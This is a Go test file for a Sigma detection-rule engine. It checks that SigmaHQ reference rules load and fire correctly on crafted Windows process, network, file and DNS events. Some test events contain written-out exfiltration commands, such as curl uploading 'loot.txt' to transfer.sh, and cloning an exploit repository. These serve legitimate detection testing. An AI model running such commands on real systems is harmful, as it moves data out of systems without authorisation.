package sigma

import (
	"context"
	"io/fs"
	"path/filepath"
	"regexp"
	"sort"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/t1567001/harness/event"
	"github.com/t1567001/harness/internal/reftest"
)

// TestReferenceCorpus loads every rule of the reference Sigma corpus,
// unmodified: each loads and evaluates, or is Unsupported with a reason.
func TestReferenceCorpus(t *testing.T) {
	dir := reftest.Dir(t, "sigma")
	var files []string
	require.NoError(t, filepath.WalkDir(dir, func(p string, d fs.DirEntry, err error) error {
		if err == nil && !d.IsDir() && (strings.HasSuffix(p, ".yml") || strings.HasSuffix(p, ".yaml")) {
			files = append(files, p)
		}
		return err
	}))
	rules, unsupported, err := LoadDir(dir)
	require.NoError(t, err)
	assert.Equal(t, len(files), len(rules)+len(unsupported), "every file loads or is reported")

	loaded := map[string]*Rule{}
	for _, r := range rules {
		rel, _ := filepath.Rel(dir, r.Path)
		loaded[filepath.ToSlash(rel)] = r
	}
	why := map[string]Unsupported{}
	for _, u := range unsupported {
		assert.NotEmpty(t, u.Reason, u.Path)
		rel, _ := filepath.Rel(dir, u.Path)
		why[filepath.ToSlash(rel)] = u
	}

	for _, name := range []string{
		"net_connection_win_binary_github_com.yml",
		"deprecated/net_connection_win_binary_github_com.yml",
		"proc_creation_win_curl_fileupload.yml",
		"proc_creation_win_git_susp_clone.yml",
		"file_event_win_rclone_config_files.yml",
		"dns_query_win_gup_query_to_uncommon_domains.yml",
	} {
		assert.Contains(t, loaded, name, "%s should load: %v", name, why[name])
	}
	// The dead-drop rule ("Image: null") is the most relevant to T1567.001.
	assert.Contains(t, loaded, "net_connection_win_domain_dead_drop_resolvers.yml", "%v", why["net_connection_win_domain_dead_drop_resolvers.yml"])
	audit := 0
	for _, f := range files {
		rel, _ := filepath.Rel(dir, f)
		rel = filepath.ToSlash(rel)
		base := filepath.Base(f)
		switch {
		case strings.HasPrefix(base, "github_"), strings.HasPrefix(base, "bitbucket_"):
			audit++
			assert.Contains(t, loaded, rel, "audit-log rules load (Channel github.audit / bitbucket.audit): %v", why[rel])
		case strings.Contains(base, "_lnx_"):
			if assert.Contains(t, why, rel) {
				assert.Contains(t, why[rel].Reason, "has no source in the logsource mapping")
			}
		default:
			assert.Contains(t, loaded, rel, "%v", why[rel])
		}
	}

	// Every loaded rule evaluates on every kind of event without error.
	ctx := context.Background()
	evs := sampleEvents()
	fired := map[string]int{}
	for _, r := range rules {
		for _, ev := range evs {
			ok, exp, err := r.Match(ctx, ev)
			require.NoError(t, err, r.Path)
			require.NotNil(t, exp)
			assert.Equal(t, ok, exp.Matched)
			fast, err := r.Matches(ctx, ev)
			require.NoError(t, err)
			assert.Equal(t, fast, ok, "%s: the explanation must reach the fast path's verdict", r.Path)
			if ok {
				fired[r.Path]++
			}
		}
	}

	// Summary.
	t.Logf("reference corpus %s: %d files, %d load, %d unsupported (%d github audit)", dir, len(files), len(rules), len(unsupported), audit)
	reasons := map[string]int{}
	detail := regexp.MustCompile(`\s*\(.*\)$`)
	for _, u := range unsupported {
		reasons[detail.ReplaceAllString(u.Reason, "")]++
	}
	keys := make([]string, 0, len(reasons))
	for k := range reasons {
		keys = append(keys, k)
	}
	sort.Strings(keys)
	for _, k := range keys {
		t.Logf("  unsupported %3d  %s", reasons[k], k)
	}
	for _, u := range unsupported {
		if !strings.HasPrefix(u.Reason, "logsource ") {
			t.Logf("  construct: %s", u.Error())
		}
	}
	t.Logf("  %d loaded rules fired on the %d sample events", len(fired), len(evs))
}

// TestReferenceRulesOnCraftedEvents runs real SigmaHQ rules on events
// built to match them, through Sysmon and (for process_creation) 4688.
func TestReferenceRulesOnCraftedEvents(t *testing.T) {
	dir := reftest.Dir(t, "sigma")
	load := func(name string) *Rule {
		r, err := LoadFile(filepath.Join(dir, filepath.FromSlash(name)))
		require.NoError(t, err)
		return r
	}
	runner := `C:\actions-runner\bin\Runner.Worker.exe`
	tests := []struct {
		rule    string
		ev      event.Event
		want    bool
		explain string
	}{
		{"net_connection_win_binary_github_com.yml", netConnect(workstation, curlExe, "api.github.com"), true, ""},
		{"deprecated/net_connection_win_binary_github_com.yml", netConnect(workstation, curlExe, "api.github.com"), true, ""},
		{"net_connection_win_binary_github_com.yml", netConnect(workstation, gitRemoteExe, "api.github.com"), false,
			`selection: Image|startswith "C:\Windows\" did not match "` + gitRemoteExe + `"`},
		{"net_connection_win_binary_github_com.yml", netConnect(workstation, curlExe, "github.com"), false,
			`DestinationHostname|endswith [".github.com", ".githubusercontent.com"] did not match "github.com"`},
		{"net_connection_win_binary_github_com.yml", procCreate(workstation, curlExe, "curl https://api.github.com", cmdExe), false,
			"Sysmon 1 on WS-FIN-0142 is not in logsource network_connection ← Sysmon 3"},
		{"proc_creation_win_curl_fileupload.yml", procCreate(workstation, curlExe, `curl.exe --upload-file loot.txt https://transfer.sh/`, cmdExe), true, ""},
		{"proc_creation_win_curl_fileupload.yml", security4688(workstation, curlExe, `curl.exe --upload-file loot.txt https://transfer.sh/`, cmdExe), true, ""},
		{"proc_creation_win_curl_fileupload.yml", security4688(workstation, curlExe, `curl.exe -T loot.txt https://transfer.sh/`, cmdExe), true, ""},
		{"proc_creation_win_curl_fileupload.yml", security4688(workstation, curlExe, `curl.exe --upload-file loot.txt http://localhost/`, cmdExe), false,
			`filter_optional_localhost: matched`},
		{"proc_creation_win_git_susp_clone.yml", procCreate(workstation, gitExe, `git.exe clone https://github.com/x/CVE-2021-44228-exploit`, cmdExe), true, ""},
		{"proc_creation_win_git_susp_clone.yml", security4688(workstation, gitExe, `git.exe clone https://github.com/x/CVE-2021-44228-exploit`, cmdExe), true, ""},
		{"proc_creation_win_github_self_hosted_runner.yml", security4688(workstation, runner, `Runner.Worker.exe spawnclient 1288 1252`, cmdExe), true, ""},
		{"file_event_win_rclone_config_files.yml", sysmonEvent(11, workstation, "Image", `C:\tools\rclone.exe`, "TargetFilename", `C:\Users\alice\.config\rclone\rclone.conf`), true, ""},
		{"dns_query_win_gup_query_to_uncommon_domains.yml", sysmonEvent(22, workstation, "Image", `C:\Program Files\Notepad++\updater\gup.exe`, "QueryName", "evil.example"), true, ""},
		{"dns_query_win_gup_query_to_uncommon_domains.yml", sysmonEvent(22, workstation, "Image", `C:\Program Files\Notepad++\updater\gup.exe`, "QueryName", "github.com"), false,
			`filter_optional_github_legit_domain: matched (QueryName "github.com" matched "github.com")`},
	}
	for _, tc := range tests {
		t.Run(tc.rule, func(t *testing.T) {
			r := load(tc.rule)
			ok, exp := mustMatch(t, r, tc.ev)
			assert.Equal(t, tc.want, ok, exp.String())
			if tc.explain != "" {
				assert.Contains(t, exp.String(), tc.explain)
			}
		})
	}
}

// TestReferenceRegressionData: the reference corpus's rules match the
// SigmaHQ regression logs kept beside it (telemetry/sigma_regression_data,
// named RULE__ID.json).
func TestReferenceRegressionData(t *testing.T) {
	rulesDir := reftest.Dir(t, "sigma")
	logs, err := filepath.Glob(filepath.Join(reftest.Dir(t, "telemetry", "sigma_regression_data"), "*.json"))
	require.NoError(t, err)
	require.NotEmpty(t, logs)
	for _, log := range logs {
		name, _, ok := strings.Cut(filepath.Base(log), "__")
		require.True(t, ok, log)
		t.Run(name, func(t *testing.T) {
			r, err := LoadFile(filepath.Join(rulesDir, name+".yml"))
			require.NoError(t, err)
			events, err := readEvtxDump(log)
			require.NoError(t, err)
			require.NotEmpty(t, events)
			matched := 0
			for _, ev := range events {
				if ok, _ := mustMatch(t, r, ev); ok {
					matched++
				}
			}
			assert.Positive(t, matched, "%s matches none of the %d events of its regression log", name, len(events))
		})
	}
}
